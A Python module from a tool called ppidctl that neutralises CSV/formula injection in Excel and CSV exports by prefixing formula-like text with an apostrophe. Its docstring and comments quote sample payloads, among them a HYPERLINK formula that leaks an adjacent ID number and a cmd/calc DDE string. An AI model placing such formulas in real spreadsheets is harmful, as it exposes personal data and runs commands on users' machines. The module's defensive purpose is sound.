"""Formula injection (OWASP "CSV injection"): the one rule every file ppidctl makes for Excel
(``ekspor``, ``laporan``'s CSV and XLSX) follows for text a spreadsheet would run as a formula.
The registers themselves and the listings' ``--format csv`` keep values as stored (they are read
back, by ppidctl and by scripts).

A text cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return) is run as a
formula by Excel or LibreOffice: ``=HYPERLINK("http://…?"&D2)`` typed as a name sends the NIK
beside it away with one click. :func:`csv_safe` prefixes such text with an apostrophe for CSV
files; the XLSX writers store it as a text cell with Excel's "quote prefix"
(:func:`is_formula_like`), so it shows unchanged and still is not run. The import drops the
apostrophe again (``legacy.values.bersihkan``). No heavy import here: the import and the
reports both use it.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: a formula that starts after a separator inside a value: Excel set up for Indonesian splits
#: a double-clicked CSV on ";" whatever the file's own separator (and quotes do not keep
#: LibreOffice from it), so "Gita;=1+2;" in a comma file became the cell =1+2. A sign with
#: nothing but a number after it up to the next separator is a number ("081…, +62…",
#: "Rp25.000,-"); "-2+3+cmd|' /C calc'!A0" is not.
INSIDE = re.compile(r"([,;\t] *)(?=[=@]|[+-](?![\d.]*(?:[,;\t]|$)))")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_safe(value: object) -> object:
    """Text a spreadsheet would run as a formula, prefixed with ``'`` (OWASP CSV injection),
    also where it starts after a separator inside the value (:data:`INSIDE`)."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_START):
        value = "'" + value
    if ("," in value or ";" in value or "\t" in value) and INSIDE.search(value):
        value = INSIDE.sub(r"\1'", value)
    return value
